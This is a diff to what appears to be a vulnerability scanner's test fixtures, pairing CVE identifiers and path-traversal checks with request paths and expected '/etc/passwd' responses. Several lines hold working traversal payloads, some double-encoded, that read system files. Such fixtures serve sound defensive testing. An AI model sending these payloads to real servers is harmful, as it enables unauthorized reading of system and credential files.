@@ -139,7 +139,8 @@ export const webApplications: readonly Case[] = [
   exposure('CVE-2019-3799', '/test/pathtraversal/master/..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd', plain('root:x:0:0:root:/root:/bin/bash\n')),
   exposure('spring-config-server-open', '/application/default', plain('{"name":"application","profiles":["default"],"label":null,"propertySources":[]}')),
   exposure('CVE-2020-5410', '/..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd%23foo/development', plain('{"propertySources":[{"source":{"root:x:0:0:root":"/root"}}]}')),
-  exposure('CVE-2024-23334', '/static/../../../../../../../../../../../../../../../../etc/passwd', plain('root:x:0:0:root:/root:/bin/bash\n')),
+  exposure('CVE-2024-23334', '/static/../../../../../../../../../../../../../../../../etc/passwd', { headers: { server: 'Python/3.11 aiohttp/3.9.1' }, body: 'root:x:0:0:root:/root:/bin/bash\n' }),
+  exposure('path-traversal-file-read', '/media/../../../../../../../../../../../../../../../../etc/passwd', plain('root:x:0:0:root:/root:/bin/bash\n')),
   exposure('path-traversal-file-read', '/../../../../../../../../../../../../../../../../etc/passwd', plain('root:x:0:0:root:/root:/bin/bash\n')),
   exposure('path-traversal-parameter', '/?file=../../../../../../../../../../../../../../../../etc/passwd', plain('root:x:0:0:root:/root:/bin/bash\n')),
   {
